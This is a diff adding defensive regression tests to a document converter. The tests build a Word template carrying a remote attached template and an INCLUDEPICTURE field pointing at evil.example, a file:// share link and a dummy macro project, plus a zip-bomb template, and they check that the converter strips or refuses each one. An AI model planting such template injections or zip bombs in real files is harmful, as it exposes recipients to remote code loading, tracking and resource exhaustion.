@@ -8,6 +8,7 @@ input and containing ``message``; ``outcome = "ok"`` is exit 0.
 
 from __future__ import annotations
 
+import io
 import json
 import os
 import struct
@@ -283,3 +284,111 @@ def test_a_cmyk_jpeg_is_shown_in_every_format(tmp_path: Path) -> None:
     with zipfile.ZipFile(tmp_path / "out" / "print.epub") as epub:
         assert [n for n in epub.namelist() if n.endswith(".jpg")]
     assert b"/Subtype /Image" in (tmp_path / "out" / "print.pdf").read_bytes()
+
+
+def _hostile_template(path: Path) -> None:
+    """A Word template carrying everything item 9 found shipped into every handout."""
+    import docx
+
+    base = io.BytesIO()
+    document = docx.Document()
+    document.sections[0].header.paragraphs[0].text = "Template header"
+    document.save(base)
+    with zipfile.ZipFile(base) as src:
+        members = {name: src.read(name) for name in src.namelist()}
+    r_ns = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    settings = members["word/settings.xml"].decode()
+    members["word/settings.xml"] = settings.replace(
+        "<w:zoom ", f'<w:attachedTemplate xmlns:r="{r_ns}" r:id="rIdEvil"/><w:zoom ', 1
+    ).encode()
+    members["word/_rels/settings.xml.rels"] = (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rIdEvil" Type="{r_ns}/attachedTemplate" '
+        'Target="http://evil.example/payload.dotm" TargetMode="External"/></Relationships>'
+    ).encode()
+    header = next(n for n in members if n.startswith("word/header"))
+    field = (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
+        ' INCLUDEPICTURE "http://evil.example/track.png" \\d </w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+        f'<w:p><w:hyperlink xmlns:r="{r_ns}" r:id="rIdShare"><w:r><w:t>share</w:t></w:r>'
+        "</w:hyperlink></w:p></w:hdr>"
+    )
+    members[header] = members[header].decode().replace("</w:hdr>", field).encode()
+    rels = f"word/_rels/{header.split('/')[-1]}.rels"
+    members[rels] = (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rIdShare" Type="{r_ns}/hyperlink" '
+        'Target="file:////host/share/secret.docx" TargetMode="External"/></Relationships>'
+    ).encode()
+    doc_rels = members["word/_rels/document.xml.rels"].decode()
+    members["word/_rels/document.xml.rels"] = doc_rels.replace(
+        "</Relationships>",
+        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
+        'vbaProject" Target="vbaProject.bin"/></Relationships>',
+    ).encode()
+    members["word/vbaProject.bin"] = b"Attribute VB_Name = evil macro"
+    types = members["[Content_Types].xml"].decode()
+    members["[Content_Types].xml"] = types.replace(
+        "</Types>",
+        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
+    ).encode()
+    with zipfile.ZipFile(path, "w") as out:
+        for name, data in members.items():
+            out.writestr(name, data)
+
+
+def test_a_template_cannot_reach_outside_the_handout(tmp_path: Path) -> None:
+    """Item 9: a remote attached template, fetching fields, a file:// share link and macros
+    went into every handout built with the template."""
+    _hostile_template(tmp_path / "house.docx")
+    (tmp_path / "house.toml").write_text(
+        'based_on = "default"\n[docx]\ntemplate = "house.docx"\n', encoding="utf-8"
+    )
+    (tmp_path / "a.txt").write_text("Title\n\nBody text of the article.\n", encoding="utf-8")
+    outcome = run_capped(
+        ["convert", "a.txt", "-t", "docx", "--style", "house.toml", "-o", "out"],
+        seconds=60,
+        memory_mib=1024,
+        cwd=tmp_path,
+    )
+    assert outcome.returncode == 0, outcome.stderr
+    assert "removed what would reach outside the document" in outcome.stderr
+    with zipfile.ZipFile(tmp_path / "out" / "a.docx") as docx:
+        everything = b"".join(docx.read(n) for n in docx.namelist())
+        names = docx.namelist()
+    for needle in (b"evil.example", b"file:////", b"attachedTemplate", b"INCLUDEPICTURE"):
+        assert needle not in everything, needle
+    assert not [n for n in names if "vba" in n.lower()]
+    assert b"Template header" in everything  # the template's own header is still used
+    assert b"share" in everything  # the link's text stays
+
+
+def test_a_template_zip_bomb_is_refused(tmp_path: Path) -> None:
+    """Item 9: a template unpacking to gigabytes took 3.7 GB of memory."""
+    base = io.BytesIO()
+    import docx
+
+    docx.Document().save(base)
+    with (
+        zipfile.ZipFile(base) as src,
+        zipfile.ZipFile(tmp_path / "bomb.docx", "w", zipfile.ZIP_DEFLATED) as out,
+    ):
+        for name in src.namelist():
+            out.writestr(name, src.read(name))
+        out.writestr("word/media/zeros.bin", b"\0" * (300 * 2**20))
+    (tmp_path / "bomb.toml").write_text(
+        'based_on = "default"\n[docx]\ntemplate = "bomb.docx"\n', encoding="utf-8"
+    )
+    (tmp_path / "a.txt").write_text("Title\n\nBody text.\n", encoding="utf-8")
+    outcome = run_capped(
+        ["convert", "a.txt", "-t", "docx", "--style", "bomb.toml", "-o", "out"],
+        seconds=60,
+        memory_mib=768,
+        cwd=tmp_path,
+    )
+    assert outcome.returncode == 1
+    assert "unpacks to" in outcome.stderr and "MiB" in outcome.stderr
+    assert len(outcome.lines()) == 1, outcome.stderr
